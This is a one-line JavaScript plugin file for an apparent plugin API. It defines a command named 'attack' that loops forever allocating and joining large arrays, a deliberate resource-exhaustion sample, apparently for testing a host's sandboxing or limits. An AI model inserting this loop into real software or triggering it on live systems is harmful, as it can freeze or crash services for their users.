import { definePlugin } from '@marathon/plugin-api';
export default definePlugin({ commands: { attack: () => { for (;;) new Array(2e5).fill(0).join(); } } });
